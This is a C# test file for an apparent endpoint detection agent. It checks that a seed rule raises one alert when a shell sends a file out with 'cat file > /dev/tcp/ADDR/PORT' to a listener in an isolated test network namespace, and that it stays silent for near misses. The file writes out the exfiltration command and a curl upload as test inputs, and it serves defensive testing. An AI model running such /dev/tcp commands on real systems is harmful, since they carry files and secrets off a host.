using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Vigil.Detection.Alerts;
using Vigil.Simulation;

namespace Vigil.Agent.Tests.Sensor;

/// <summary>
/// The issue's key test, on the real kernel: the agent runs the shipped rules on its live stream; a shell sends a
/// file with <c>cat f &gt; /dev/tcp/ADDR/PORT</c> to a listener in a network namespace this test creates (2001:db8::/32
/// on a veth pair, so nothing leaves the machine), and the seed rule raises exactly one alert about that cat; near
/// misses stay silent. Every event the agent wrote passes the Defend shape check.
/// </summary>
[Collection(SensorCollection.Name)]
public sealed class CatOverDevTcpTests
{
    private const string SeedRuleId = "afd04601-12fc-4149-9b78-9c3f8fe45d39";
    private const int InsidePort = 48080;

    [SensorFact]
    public void SeedRuleRaisesOneAlertForCatToDevTcpAndNoneForNearMisses()
    {
        var work = Directory.CreateTempSubdirectory("vigil-agent-test-");
        Process? listener = null;
        using var loopback = new TcpListener(IPAddress.Loopback, 0);
        try
        {
            using var ns = new TestNetNamespace();
            listener = ns.Start("python3", "-c", ListenerScript, InsidePort.ToString(CultureInfo.InvariantCulture));
            Assert.Equal("ready", listener.StandardOutput.ReadLine());
            loopback.Start();
            var loopbackPort = ((IPEndPoint)loopback.LocalEndpoint).Port;
            _ = Task.Run(() => DrainLoopback(loopback));
            var file = Path.Combine(work.FullName, "somefile");
            File.WriteAllText(file, "secret payload\n");

            using var agent = new RunningAgent(RepoPaths.Rules);

            // Near misses first: a local destination, a cat that does not connect, curl, and bash's own /dev/tcp.
            Shell($"cat {file} > /dev/tcp/127.0.0.1/{loopbackPort}");
            Shell($"cat {file} > /dev/null");
            Run("curl", "-s", "-m", "5", "--data-binary", "@" + file, $"http://[{ns.InsideAddress}]:{InsidePort}/");
            Shell($"echo hello > /dev/tcp/{ns.InsideAddress}/{InsidePort}");

            // The attack. The file is a FIFO so that cat waits, alive, while the test reads its identity from /proc.
            var fifo = Path.Combine(work.FullName, "fifo");
            Assert.Equal(0, Run("mkfifo", fifo));
            using var bash = Process.Start(new ProcessStartInfo("bash", ["-c", $"cat {fifo} > /dev/tcp/{ns.InsideAddress}/{InsidePort}"]) { UseShellExecute = false })!;
            var (catPid, catEntityId) = WaitForChildCat(bash.Id);
            File.WriteAllText(fifo, "secret payload\n");
            Assert.True(bash.WaitForExit(10_000), "the attack's bash did not end");
            Assert.Equal(0, bash.ExitCode);

            var deadline = Stopwatch.StartNew();
            while (deadline.Elapsed < TimeSpan.FromSeconds(15) && !agent.Alerts.Any(a => a.IsShell))
            {
                Thread.Sleep(100);
            }
            Thread.Sleep(3000); // let any late near-miss alert arrive before counting
            agent.Stop();

            var mine = agent.Alerts.Where(a => Field(a, "kibana.alert.rule.rule_id") == SeedRuleId).ToList();
            var shells = mine.Where(a => a.IsShell).ToList();
            var shell = Assert.Single(shells);
            var blocks = mine.Where(a => a.IsBuildingBlock).ToList();
            Assert.Equal(2, blocks.Count);
            var exec = Assert.Single(blocks, b => Field(b, "event.action") == "exec");
            var network = Assert.Single(blocks, b => Field(b, "event.action") == "disconnect_received");
            foreach (var block in blocks)
            {
                Assert.Equal(catEntityId, Field(block, "process.entity_id"));
                Assert.Equal(catPid.ToString(CultureInfo.InvariantCulture), Field(block, "process.pid"));
                Assert.Equal("cat", Field(block, "process.name"));
                Assert.Equal("bash", Field(block, "process.parent.name"));
                Assert.Equal(bash.Id.ToString(CultureInfo.InvariantCulture), Field(block, "process.parent.pid"));
                Assert.Equal(ExpectedEntityId(bash.Id, BashStartTicks), Field(block, "process.parent.entity_id"));
                Assert.Equal("0", Field(block, "user.id"));
                Assert.Equal("root", Field(block, "user.name"));
            }
            Assert.Equal(ns.InsideAddress, Field(network, "destination.ip"));
            Assert.Equal(InsidePort.ToString(CultureInfo.InvariantCulture), Field(network, "destination.port"));
            Assert.Equal(ns.HostAddress, Field(network, "source.ip"));
            Assert.Equal($"cat {fifo}", Field(exec, "process.command_line"));
            Assert.NotNull(shell);

            // Defend's attribution, matched: the shell's child connects before it execs cat (the attempt says bash),
            // under the same entity id; the close comes from cat.
            var events = agent.Captured.Events.Select(static e => JsonDocument.Parse(e).RootElement).ToList();
            var ofCat = events.Where(e => Text(e, "process.entity_id") == catEntityId).Select(e => (Text(e, "event.action"), Text(e, "process.name"))).ToList();
            Assert.Equal([("fork", "bash"), ("connection_attempted", "bash"), ("exec", "cat"), ("disconnect_received", "cat"), ("end", "cat")], ofCat);

            Assert.Equal(0, agent.Summary.Dropped);
            var problems = events.SelectMany(e => DefendShapeChecker.Check(e).Select(p => $"{Text(e, "event.action")} {Text(e, "process.name")}: {p}")).Distinct().ToList();
            Assert.Empty(problems);
        }
        finally
        {
            if (listener is { HasExited: false })
            {
                listener.Kill(entireProcessTree: true);
            }
            listener?.Dispose();
            loopback.Stop();
            work.Delete(recursive: true);
        }
    }

    private long BashStartTicks { get; set; }

    private static readonly string ListenerScript = """
        import socket, sys
        s = socket.socket(socket.AF_INET6)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("::", int(sys.argv[1])))
        s.listen(16)
        s.settimeout(90)
        print("ready", flush=True)
        while True:
            try:
                c, _ = s.accept()
            except OSError:
                break
            c.settimeout(1)
            try:
                while c.recv(65536):
                    pass
            except OSError:
                pass
            c.close()
        """;

    // Waits for the bash's child to be cat (blocked opening the FIFO) and computes its entity id from /proc.
    private (int Pid, string EntityId) WaitForChildCat(int bashPid)
    {
        BashStartTicks = StartTicks(bashPid);
        var watch = Stopwatch.StartNew();
        while (watch.Elapsed < TimeSpan.FromSeconds(10))
        {
            var children = File.ReadAllText($"/proc/{bashPid}/task/{bashPid}/children").Split(' ', StringSplitOptions.RemoveEmptyEntries);
            foreach (var child in children.Select(int.Parse))
            {
                if (File.ReadAllText($"/proc/{child}/comm").Trim() == "cat")
                {
                    return (child, ExpectedEntityId(child, StartTicks(child)));
                }
            }
            Thread.Sleep(10);
        }
        throw new TimeoutException("bash never started cat");
    }

    // The test's own oracle: Defend-style base64 of "machine-id-pid-start", start in 1/100 s since the epoch.
    private static string ExpectedEntityId(int pid, long startTicks)
    {
        var machineId = File.ReadAllText("/etc/machine-id").Trim();
        var btime = long.Parse(File.ReadLines("/proc/stat").First(l => l.StartsWith("btime ", StringComparison.Ordinal))[6..], CultureInfo.InvariantCulture);
        return Convert.ToBase64String(Encoding.UTF8.GetBytes($"{machineId}-{pid}-{(btime * 100) + startTicks}"));
    }

    private static long StartTicks(int pid)
    {
        var stat = File.ReadAllText($"/proc/{pid}/stat");
        return long.Parse(stat[(stat.LastIndexOf(')') + 2)..].Split(' ')[19], CultureInfo.InvariantCulture);
    }

    private static void Shell(string command) => Assert.Equal(0, Run("bash", "-c", command));

    private static int Run(string program, params string[] args)
    {
        using var p = Process.Start(new ProcessStartInfo(program, args) { UseShellExecute = false, RedirectStandardOutput = true })!;
        p.StandardOutput.ReadToEnd();
        Assert.True(p.WaitForExit(15_000), $"{program} did not end");
        return p.ExitCode;
    }

    private static void DrainLoopback(TcpListener listener)
    {
        try
        {
            while (true)
            {
                using var client = listener.AcceptTcpClient();
                client.GetStream().CopyTo(Stream.Null);
            }
        }
        catch (Exception e) when (e is SocketException or ObjectDisposedException or IOException or InvalidOperationException)
        {
        }
    }

    private static string? Field(AlertDocument alert, string path)
    {
        JsonNode? node = alert.Source[path];
        if (node is null)
        {
            node = alert.Source.ToJsonObject();
            foreach (var part in path.Split('.'))
            {
                node = node is JsonObject o && o.TryGetPropertyValue(part, out var next) ? next : null;
            }
        }
        return node switch
        {
            null => null,
            JsonValue v when v.TryGetValue<string>(out var s) => s,
            _ => node.ToJsonString(),
        };
    }

    private static string? Text(JsonElement e, string path)
    {
        foreach (var part in path.Split('.'))
        {
            if (e.ValueKind != JsonValueKind.Object || !e.TryGetProperty(part, out e))
            {
                return null;
            }
        }
        return e.ValueKind == JsonValueKind.String ? e.GetString() : e.ToString();
    }
}
